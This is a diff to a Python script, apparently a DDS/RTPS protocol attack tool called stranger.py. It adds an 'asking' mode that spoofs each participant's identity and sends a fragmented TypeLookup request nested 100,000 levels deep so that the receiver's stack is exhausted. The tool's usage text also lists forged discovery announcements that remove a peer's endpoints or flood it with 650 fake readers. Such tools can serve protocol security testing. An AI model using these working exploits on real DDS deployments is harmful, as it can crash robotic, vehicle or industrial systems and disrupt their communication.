@@ -19,6 +19,8 @@ Usage: stranger.py request                an empty request to the participant th
        stranger.py removing               to each of two that talk, clear announcements in the other's name that dispose of its
                                           endpoints and of its secure discovery, or put its readers elsewhere
        stranger.py crowding               to the one that answers, clear announcements of 650 readers in the name of the other
+       stranger.py asking                 to each of two that talk, in the other's name and in the clear, a request for a type
+                                          that is nested so deeply that its reader's stack ends
 It says "forged N" when it is done.
 """
 
@@ -33,6 +35,8 @@ SPDP_WRITER, PARTICIPANT = bytes.fromhex("000100c2"), bytes.fromhex("000001c1")
 METATRAFFIC_UNICAST, SENTINEL, ENDPOINT_SET, VERSION_INFO, UNKNOWN = 0x32, 0x01, 0x58, 0x8007, 0x8f01
 OTHERS_DEPEND_ON_IT = 0x10  # a flag of Cyclone's VERSION_INFO
 SECURE_DISCOVERY = 0x000f0000  # of publications and subscriptions, in ENDPOINT_SET
+TYPE_REQUESTS = bytes.fromhex("000300c3")
+DEPTH, FRAGMENT = 100000, 32000
 RECORDED, REPLAYED = 3, 6  # seconds
 CLASS = "DDS:Auth:PKI-DH:1.0+"
 # Any point of the curve will do as a public key for an agreement that is never finished: its generator.
@@ -198,6 +202,27 @@ def crowd(of, to):
         yield clear_discovery(of, to, number, struct.pack(">I", number << 8 | 7), True, elsewhere("Square", "interop::Shape"), False)
 
 
+def type_request(of):
+    """TypeLookup_Request (DDS-XTypes 7.6.3.3.4) for a sequence of sequences of sequences, in XCDR2."""
+    nested = b"\x80\xf3\1\0\x77" + b"\x80\xf3\0\1\0\x77" * DEPTH + b"\4"
+    size = 4 + len(nested)
+    out = b"\0\7\0\0" + of + TYPE_REQUESTS + struct.pack("<III4s", 0, 5, 4, b"abc\0")
+    out += struct.pack("<IIIIII", size + 16, 0x018252d3, size + 8, 0x5c536065, size, 1) + nested
+    return out + bytes(-len(out) % 4)
+
+
+def type_requests(of, to):
+    """A HEARTBEAT, and the request in fragments."""
+    begin = b"RTPS\2\1\1\x10" + of + submessage(0x0e, 0, to)
+    ends, at = bytes(4) + TYPE_REQUESTS, struct.pack("<iI", 0, 1)
+    yield begin + submessage(0x07, 0, ends + at + at + struct.pack("<i", 1000))
+    whole = type_request(of)
+    for place in range(0, len(whole), FRAGMENT):
+        piece = whole[place:place + FRAGMENT]
+        numbers = struct.pack("<IHHI", place // FRAGMENT + 1, 1, FRAGMENT, len(whole))
+        yield begin + submessage(0x16, 0, struct.pack("<HH", 0, 28) + ends + at + numbers + piece)
+
+
 FORGERIES = {"announced": lambda true: true.replace(b"PKI-DH:1.0", b"PKI-DH:9.0"), "fewer": fewer}
 
 
@@ -300,6 +325,11 @@ def main():
         for of, to in ((begins, answers), (answers, begins)):
             for message in removals(of, to):
                 network.send(to, message)
+    elif mode == "asking":
+        for of, to in ((begins, answers), (answers, begins)):
+            for message in type_requests(of, to):
+                network.send(to, message)
+                time.sleep(0.002)
     elif mode == "crowding":
         for message in crowd(begins, answers):
             network.send(answers, message)
